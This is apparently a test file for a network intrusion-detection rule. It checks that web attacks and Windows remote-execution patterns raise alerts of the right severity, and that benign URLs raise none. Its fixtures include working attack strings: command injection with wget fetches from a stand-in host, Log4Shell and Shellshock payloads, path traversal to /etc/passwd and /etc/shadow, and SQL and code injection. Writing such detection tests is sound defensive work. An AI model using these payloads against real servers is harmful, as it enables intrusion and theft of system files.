import { describe, expect, test } from 'vitest'
import { abnormalProcess } from '#engine/detect/rules/abnormal-process.ts'
import type { HttpEvent, RpcEvent, SensorEvent } from '#engine/event.ts'
import { alertsOf, sentencesOf } from '#test/support/detect.ts'
import {
  dns,
  flow,
  HOUR,
  http,
  KIOSK,
  MINUTE,
  MORNING,
  rpc,
  SECOND,
  SERVER,
  STRANGER,
  share,
} from '#test/support/events.ts'

const options = { rules: [abnormalProcess] }
const alerts = (...events: SensorEvent[]) => alertsOf(events, options)
const severities = (...events: SensorEvent[]): string[] => alerts(...events).map(({ severity }) => severity)
const asked = (path: string, changes: Partial<HttpEvent> = {}): HttpEvent =>
  http({ source: STRANGER, target: SERVER, path, ...changes })

describe('a web request that carries an order', () => {
  test.each<[string, HttpEvent, string]>([
    ['a command behind an address', asked('/ping.php?ip=127.0.0.1;cat%20/etc/passwd'), 'command injection'],
    ['a command behind a bar', asked('/exec/?ip=8.8.8.8|id&Submit=Submit'), 'command injection'],
    ['a command within another', asked('/x.cgi?country=$(wget+http://198.51.100.7/a)'), 'command injection'],
    ['encoded twice', asked('/x.php?a=1%253bwhoami'), 'command injection'],
    ['with other blanks', asked(`/x.php?a=1;wget\${IFS}198.51.100.7/a`), 'command injection'],
    ['in capitals', asked('/setup.cgi?todo=syscmd&cmd=RM+-RF+/tmp/*;WGET+http://198.51.100.7/a'), 'command injection'],
    ['a router’s shell', asked('/shell?cd+/tmp;rm+-rf+*;wget+198.51.100.7/jaws;sh+jaws'), 'command injection'],
    ['a shell below the programs', asked('/cgi-bin/.%2e/.%2e/.%2e/bin/sh'), 'command injection'],
    ['a page that runs what it is given', asked('/uploads/x.php?cmd=whoami'), 'web shell'],
    ['a file of the system', asked('/index.php?page=../../../../etc/passwd'), 'path traversal'],
    ['the same, encoded', asked('/static/%2e%2e%2f%2e%2e%2f%2e%2e%2fetc%2fshadow'), 'path traversal'],
    ['the same, in too many bytes', asked('/a/%c0%ae%c0%ae/%c0%ae%c0%ae/boot'), 'path traversal'],
    ['on Windows', asked('/dl?f=..\\..\\windows\\win.ini'), 'path traversal'],
    [
      'a framework of PHP',
      asked('/?s=/Index/\\think\\app/invokefunction&function=call_user_func_array'),
      'code injection',
    ],
    [
      'PHP’s own switches',
      asked('/?%ADd+allow_url_include%3d1+%ADd+auto_prepend_file%3dphp://input'),
      'code injection',
    ],
    ['Struts', asked('/a.action?redirect:%24%7B%23context%5B%22x%22%5D%7D'), 'code injection'],
    ['Spring', asked('/?class.module.classLoader.resources.context.parent.pipeline.first.pattern=x'), 'code injection'],
    ['a database', asked('/sqli/?id=1%27+OR+%271%27%3D%271&Submit=Submit'), 'SQL injection'],
    ['a database, joined', asked('/p?id=-1%20UNION/**/ALL%20SELECT%201,2,version()'), 'SQL injection'],
    ['Shellshock', asked('/cgi-bin/status', { userAgent: '() { :;}; /bin/bash -c "id"' }), 'shellshock'],
    ['Log4Shell', asked('/', { userAgent: `\${jndi:ldap://198.51.100.7:1389/a}` }), 'log4shell'],
    [
      'Log4Shell, hidden',
      asked('/?q=%24%7B%24%7Blower%3Aj%7D%24%7B%3A%3A-n%7Ddi%3A%24%7Benv%3AX%3A-rmi%7D%3A%2F%2Fx.example%2Fa%7D'),
      'log4shell',
    ],
    ['a page put there', asked('/shell.jsp', { method: 'PUT', status: 201 }), 'script upload'],
  ])('%s', (_name, event, family) => {
    expect(alerts(event)).toMatchObject([{ kind: 'abnormal-process', evidence: { deeds: [family] } }])
  })
})

describe('what follows tells whether it was obeyed', () => {
  const passwd = '/index.php?page=../../../../etc/passwd'
  const lookup = asked('/', { userAgent: `\${jndi:ldap://198.51.100.7:1389/a}` })
  const call = { source: SERVER, target: '198.51.100.7', targetPort: 1389, outcome: 'answered' as const }

  test('in words', () => {
    expect(sentencesOf(alerts(lookup, flow({ ...call, at: MORNING + MINUTE, startedAt: MORNING + SECOND })))).toEqual([
      'abnormal-process high ×2 203.0.113.5 → 192.168.1.10 [192.168.1.10] 203.0.113.5 gave orders to 192.168.1.10: log4shell; succeeded (the server called the place it was told to)',
    ])
    expect(sentencesOf(alerts({ ...lookup, status: 404 }))).toEqual([
      'abnormal-process low ×1 203.0.113.5 → 192.168.1.10 [192.168.1.10] 203.0.113.5 gave orders to 192.168.1.10: log4shell; attempted',
    ])
  })

  const namedLookup = asked('/', { userAgent: `\${jndi:dns://calls.example/a}` })
  const wget = asked('/x.cgi?a=;wget+http://198.51.100.7/a', { status: 500 })
  test.each<[string, string, SensorEvent[]]>([
    ['refused', 'low', [asked(passwd, { status: 404 })]],
    ['not answered', 'low', [asked(passwd, { status: 0 })]],
    ['answered with nothing', 'low', [asked(passwd, { responseBytes: 0 })]],
    ['answered with a page', 'medium', [asked(passwd)]],
    ['answered with the file', 'high', [asked(passwd, { contentType: 'text/plain' })]],
    [
      'answered with much more than such a file',
      'medium',
      [asked(passwd, { contentType: 'video/mp4', responseBytes: 9e6 })],
    ],
    ['a page that ran it', 'high', [asked('/x.php?cmd=id', { responseBytes: 54 })]],
    ['a page that took no notice', 'medium', [asked('/x.php?cmd=id', { responseBytes: 40_000 })]],
    ['a look-up that was answered with a page', 'low', [lookup]],
    ['Shellshock at a page that is no program', 'low', [asked('/', { userAgent: '() { :;}; echo' })]],
    ['Shellshock at a program', 'medium', [asked('/cgi-bin/status', { userAgent: '() { :;}; echo' })]],
    ['obeyed, and logged before the order', 'high', [flow({ ...call, at: MORNING - 20 * SECOND }), lookup]],
    ['obeyed towards a name', 'high', [namedLookup, dns({ source: SERVER, name: 'calls.example' })]],
    ['obeyed by fetching', 'high', [wget, flow({ ...call, targetPort: 80 })]],
    ['obeyed by calling the sender back', 'high', [wget, flow({ ...call, target: STRANGER, targetPort: 4_444 })]],
    ['another server calls that place', 'low', [lookup, flow({ ...call, source: KIOSK })]],
    ['the server calls another place', 'low', [lookup, flow({ ...call, target: '198.51.100.8' })]],
    ['the server called that place an hour ago', 'low', [lookup, flow({ ...call, at: MORNING - HOUR })]],
    ['the tail of an older connection', 'low', [lookup, flow({ ...call, isMidway: true })]],
  ])('%s', (_name, severity, events) => {
    expect(severities(...events)).toEqual([severity])
    expect(severities(...events.toReversed())).toEqual([severity])
  })

  test('one call counts once, however many orders it may obey', () => {
    const call2 = flow({ ...call, at: MORNING + SECOND })
    const orders = [lookup, { ...lookup, at: MORNING + SECOND, flow: 'second' }]
    expect(alerts(...orders, call2)).toMatchObject([{ count: 3 }])
    expect(alerts(call2, ...orders)).toMatchObject([{ count: 3 }])
  })
})

describe('Windows’ own ways from another computer', () => {
  const at = (operation: string, endpoint = 'svcctl', changes: Partial<RpcEvent> = {}) =>
    rpc({ endpoint, operation, ...changes })
  const tool = share({ action: 'created', share: '\\\\server\\ADMIN$', path: 'PSEXESVC.exe' })

  test.each<[string, string[], SensorEvent[]]>([
    ['a service made and started', ['high'], [at('CreateServiceW'), at('StartServiceW')]],
    ['a program copied and made a service', ['high'], [tool, at('CreateServiceA')]],
    ['a program copied and started', ['high'], [tool, at('StartServiceW')]],
    ['a service started and deleted again', ['high'], [at('StartServiceW'), at('DeleteService')]],
    ['a service made', ['medium'], [at('CreateServiceW')]],
    [
      'a task registered and run',
      ['high'],
      [at('SchRpcRegisterTask', 'itaskschedulerservice'), at('SchRpcRun', 'itaskschedulerservice')],
    ],
    ['a task registered', ['medium'], [at('NetrJobAdd', 'atsvc')]],
    ['a WMI method', ['medium'], [at('ExecMethod', 'iwbemservices')]],
    ['a service started', [], [at('OpenServiceW'), at('StartServiceW')]],
    ['services looked at', [], [at('OpenSCManagerW'), at('6'), at('14')]],
    ['a WMI question', [], [at('ExecQuery', 'iwbemservices')]],
    ['a program copied', [], [tool]],
    ['numbers of another interface', [], [at('12', 'samr'), at('19', 'samr')]],
    ['numbers of nobody knows what', [], [at('12', ''), at('19', '')]],
  ])('%s', (_name, expected, events) => {
    expect(severities(...events)).toEqual(expected)
  })

  test('calls whose interface only the binding told', () => {
    const on = { flow: 'one' }
    const events = [at('', 'svcctl', on), at('12', '', on), at('19', '', on)]
    expect(severities(...events)).toEqual(['high'])
    expect(severities(...events.toReversed())).toEqual(['high'])
    expect(severities(at('', 'samr', on), at('12', '', on), at('19', '', on))).toEqual([])
  })

  test('a share that was named where it was opened', () => {
    const on = { flow: 'one' }
    const copy = share({ ...on, action: 'created', share: '', path: 'PSEXESVC.exe' })
    const opened = (name: string) => share({ ...on, action: 'connected', share: `\\\\server\\${name}` })
    for (const name of ['ADMIN$', 'c$']) {
      expect(severities(opened(name), copy, at('CreateServiceW'))).toEqual(['high'])
      expect(severities(at('CreateServiceW'), copy, opened(name))).toEqual(['high'])
    }
    expect(severities(opened('public'), opened('IPC$'), copy, at('CreateServiceW'))).toEqual(['medium'])
  })

  test('are told with who and to whom', () => {
    expect(sentencesOf(alerts(at('CreateServiceW'), at('StartServiceW')))).toEqual([
      'abnormal-process high ×2 192.168.1.23 → 192.168.1.10 [192.168.1.10] 192.168.1.23 gave orders to 192.168.1.10: created a service, started a service; succeeded',
    ])
  })
})

test.each<[string, string]>([
  ['a search', '/search?q=union+and+select+committee'],
  ['a search for code', "/search?q=how+to+cat+a+file+it's+easy"],
  ['a list of fields between bars', '/w/api.php?prop=info|id|type&titles=Cat|Dog'],
  ['a session behind a semicolon', '/shop;jsessionid=1F2E?id=5;type=2'],
  ['a name with an apostrophe', "/people/O'Brien?and=1"],
  ['an advertisement’s unfilled blanks', `/px?price=\${AUCTION_PRICE}&id={{creative.id}}&c=%7B%7Bad%7D%7D`],
  ['an encoded object', '/v1?filter=%7B%22id%22%3A%5B1%2C2%5D%7D&cmd=list'],
  ['a font’s alternatives', '/css?family=Roboto:400|Open+Sans:(700)'],
  ['one step up', '/a/../b.css'],
  ['a download called after a shell', '/pub/bash-5.2.tar.gz?x=1'],
  ['an address within an address', '/go?url=https%3A%2F%2Fexample.jp%2Fa%3Fb%3D%27c%27'],
])('%s is no order', (_name, path) => {
  expect(severities(asked(path))).toEqual([])
})

test('an order as long as an attacker likes costs little and stays short', () => {
  for (const unit of [`\${`, '../', ';wget ', "' or ", '%25', '/*', '() {'])
    expect(JSON.stringify(alerts(asked(unit.repeat(20_000), { userAgent: unit.repeat(20_000) }))).length).toBeLessThan(
      4_000,
    )
})
